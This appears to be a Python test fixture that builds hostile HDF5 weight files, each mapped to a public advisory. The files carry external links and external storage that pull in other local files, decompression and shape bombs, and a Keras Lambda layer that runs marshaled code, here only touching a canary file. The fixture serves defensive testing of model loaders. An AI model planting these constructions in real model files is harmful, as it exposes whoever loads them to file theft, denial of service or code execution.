"""HDF5 files that do what public advisories describe, as weights or as a segment.

Each function writes one hostile object in place of a sound array called `name`, of the
given shape; the rest of the file is sound.
"""

import marshal
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import h5py
import numpy as np

SECRET = b"root:x:0:0: a secret of this computer, longer than the array " * 2000
"""What a file of somebody else on this computer holds."""


@dataclass(frozen=True)
class Place:
    """Where an attack is planted, and what it may use."""

    file: h5py.File
    name: str
    shape: tuple[int, ...]
    dtype: np.dtype
    secret: Path
    """A file that nobody named, with `SECRET` in it."""
    other: Path
    """An HDF5 file that nobody named, with a sound array in it, under "stolen"."""
    canary: Path
    """Made by code, should any run."""


Attack = Callable[[Place], None]


def external_link(place: Place) -> None:
    place.file[place.name] = h5py.ExternalLink(place.other, "/stolen")


def link_of_a_group_to_another_file(place: Place) -> None:
    group = place.name.split("/")[0]
    if group in place.file:
        del place.file[group]
    place.file[group] = h5py.ExternalLink(place.other, "/")


def soft_link(place: Place) -> None:
    place.file["elsewhere"] = np.zeros(place.shape, place.dtype)
    place.file[place.name] = h5py.SoftLink("/elsewhere")


def hanging_soft_link(place: Place) -> None:
    place.file[place.name] = h5py.SoftLink("/nowhere")


def external_storage(place: Place) -> None:
    num_bytes = int(np.prod(place.shape)) * place.dtype.itemsize
    place.file.create_dataset(
        place.name, place.shape, place.dtype, external=[(place.secret, 0, num_bytes)]
    )


def external_storage_in_parts(place: Place) -> None:
    num_bytes = int(np.prod(place.shape)) * place.dtype.itemsize
    half = num_bytes // 2
    parts = [(place.secret, 0, half), (place.secret, 64, num_bytes - half)]
    place.file.create_dataset(place.name, place.shape, place.dtype, external=parts)


def virtual_dataset(place: Place) -> None:
    layout = h5py.VirtualLayout(place.shape, place.dtype)
    layout[...] = h5py.VirtualSource(place.other, "stolen", place.shape)
    place.file.create_virtual_dataset(place.name, layout)


def shape_bomb(place: Place) -> None:
    place.file.create_dataset(place.name, (2**40,), place.dtype, chunks=(2**16,))


def shape_bomb_that_was_never_written(place: Place) -> None:
    place.file.create_dataset(place.name, (2**18, 2**18), place.dtype)


def filter_bomb(place: Place) -> None:
    place.file.create_dataset(
        place.name,
        data=np.zeros((2**22,), place.dtype),
        chunks=(2**20,),
        compression="gzip",
        compression_opts=9,
    )


def filter_of_right_shape(place: Place) -> None:
    place.file.create_dataset(
        place.name, data=np.zeros(place.shape, place.dtype), compression="gzip"
    )


def compact_layout(place: Place) -> None:
    properties = h5py.h5p.create(h5py.h5p.DATASET_CREATE)
    properties.set_layout(h5py.h5d.COMPACT)
    links = h5py.h5p.create(h5py.h5p.LINK_CREATE)
    links.set_create_intermediate_group(True)
    h5py.h5d.create(
        place.file.id,
        place.name.encode(),
        h5py.h5t.py_create(place.dtype),
        h5py.h5s.create_simple(tuple(min(side, 8) for side in place.shape)),
        properties,
        links,
    )


def ring_of_links(place: Place) -> None:
    place.file[place.name] = place.file["/"]


def one_array_a_thousand_times(place: Place) -> None:
    place.file[place.name] = np.zeros(place.shape, place.dtype)
    for number in range(1000):
        place.file[f"copy/{number}"] = place.file[place.name]


def thousands_of_groups(place: Place) -> None:
    for number in range(6_000):
        place.file.create_group(f"{number}")
    place.file[place.name] = np.zeros(place.shape, place.dtype)


def objects_of_variable_length(place: Place) -> None:
    kind = h5py.vlen_dtype(place.dtype)
    place.file.create_dataset(place.name, place.shape, kind)


def references(place: Place) -> None:
    place.file.create_dataset(place.name, place.shape, h5py.ref_dtype)


def text_in_place_of_numbers(place: Place) -> None:
    place.file.create_dataset(place.name, place.shape, h5py.string_dtype())


def compound_type(place: Place) -> None:
    kind = np.dtype([("value", place.dtype), ("code", "S64")])
    place.file.create_dataset(place.name, place.shape, kind)


def strange_float(place: Place) -> None:
    kind = h5py.h5t.IEEE_F16LE.copy()
    kind.set_fields(15, 8, 7, 0, 7)
    space = h5py.h5s.create_simple(place.shape)
    links = h5py.h5p.create(h5py.h5p.LINK_CREATE)
    links.set_create_intermediate_group(True)
    h5py.h5d.create(place.file.id, place.name.encode(), kind, space, None, links)


def named_type(place: Place) -> None:
    place.file[place.name] = np.dtype(place.dtype)


def no_extent(place: Place) -> None:
    place.file[place.name] = h5py.Empty(place.dtype)


def other_shape(place: Place) -> None:
    shape = (*place.shape[:-1], place.shape[-1] + 1)
    place.file[place.name] = np.zeros(shape, place.dtype)


def wider_numbers(place: Place) -> None:
    place.file[place.name] = np.zeros(place.shape, np.float64)


def keras_model_with_code(place: Place) -> None:
    """Be a whole model of Keras in the legacy format, with a Lambda layer."""
    code = compile(f"open({str(place.canary)!r}, 'w')", "lambda", "exec")
    config = {
        "class_name": "Sequential",
        "config": [
            {
                "class_name": "Lambda",
                "config": {"function": [marshal.dumps(code).hex(), None, None]},
            }
        ],
    }
    place.file.attrs["model_config"] = repr(config).replace("'", '"')
    place.file.attrs["keras_version"] = "2.12.0"
    place.file["model_weights/lambda/kernel"] = np.zeros(place.shape, place.dtype)


ATTACKS: dict[str, tuple[Attack, str]] = {
    attack.__name__.replace("_", " "): (attack, advisory)
    for attack, advisory in (
        (external_link, "GHSA-27f4-p4xq-cxg8"),
        (link_of_a_group_to_another_file, "GHSA-27f4-p4xq-cxg8"),
        (soft_link, "GHSA-27f4-p4xq-cxg8"),
        (hanging_soft_link, "GHSA-27f4-p4xq-cxg8"),
        (external_storage, "CVE-2026-1669"),
        (external_storage_in_parts, "CVE-2026-1669"),
        (virtual_dataset, "keras-team/keras#22976"),
        (shape_bomb, "CVE-2026-0897"),
        (shape_bomb_that_was_never_written, "CVE-2026-0897"),
        (filter_bomb, "keras-team/keras#22975"),
        (filter_of_right_shape, "CVE-2019-8396"),
        (compact_layout, "HDFGroup/hdf5#5892"),
        (ring_of_links, ""),
        (one_array_a_thousand_times, ""),
        (thousands_of_groups, ""),
        (objects_of_variable_length, "CVE-2025-2309"),
        (references, ""),
        (text_in_place_of_numbers, ""),
        (compound_type, "CVE-2025-2309"),
        (strange_float, "CVE-2025-2309"),
        (named_type, ""),
        (no_extent, ""),
        (other_shape, ""),
        (wider_numbers, ""),
        (keras_model_with_code, "CVE-2025-9905, CVE-2024-3660"),
    )
}
"""Each attack with the public advisory that it plays; empty: none that we know."""
